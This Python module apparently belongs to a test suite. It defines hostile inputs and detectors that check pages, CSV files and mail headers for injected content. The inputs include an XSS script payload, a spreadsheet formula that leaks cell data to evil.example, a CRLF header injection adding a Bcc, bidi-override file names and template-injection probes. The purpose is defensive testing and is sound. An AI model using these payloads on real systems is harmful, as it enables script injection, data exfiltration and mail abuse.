"""Texts made to do harm, and what a page, a file and a mail may not hold because of them."""

from __future__ import annotations

import csv
import io
from email import message_from_bytes
from email.message import Message
from html.parser import HTMLParser
from urllib.parse import urlsplit

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
HEADER = "a\r\nBcc: evil@example.nl\r\n\r\nbody"
TURNED = "\u202egnp.exe\u2066"
LONG = "W" * 10_000
ZERO = "a\x00b"
HIDDEN = "a\u200bb\ufeffc\u2028d"
TEMPLATE = "{{7*7}}{% raw %}${7*7}"
HOSTILE = {
    "script": SCRIPT, "formula": FORMULA, "header": HEADER, "turned": TURNED, "long": LONG, "zero": ZERO,
    "hidden": HIDDEN, "template": TEMPLATE,
}  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if (
            tag == "script"
            and not (found.get("src") or "").startswith("/static/")
            and found.get("type") != "application/json"
        ):
            self.wrong.append(f"a script: {attrs}")
        self.wrong += [f"{tag} has {name}" for name in found if name.startswith("on") or name == "style"]
        self.wrong += [f"{tag} asks {v}" for n, v in attrs if n in ("src", "action") and _is_elsewhere(v or "")]
        self.wrong += [f"{tag} runs {v}" for _, v in attrs if v and v.strip().lower().startswith("javascript:")]


def _is_elsewhere(url: str) -> bool:
    return bool(urlsplit(url).netloc) or url == "x"


def harm_in_page(html: str) -> list[str]:
    """What of a page would run, be fetched, or turn the text around it."""
    seen = _Seen()
    seen.feed(html)
    found = [
        f"turns: U+{ord(c):04X}" for c in set(html) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    ]
    found += ["a zero character"] if "\0" in html else []
    found += ["a template was filled in"] if TEMPLATE.replace("{{7*7}}", "49")[:6] in html else []
    return seen.wrong + found


def harm_in_csv(data: bytes) -> list[str]:
    """Cells that a spreadsheet would take for a formula."""
    text = data.decode("utf-8-sig")
    dialect = ";" if text.split("\n", 1)[0].count(";") else ","
    found = []
    for row in csv.reader(io.StringIO(text), delimiter=dialect):
        found += [cell[:60] for cell in row if cell.startswith(STARTS) and not _is_number(cell)]
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def headers_of(raw: bytes) -> Message:
    """The headers of a mail, as its receiver's program reads them."""
    return message_from_bytes(raw)
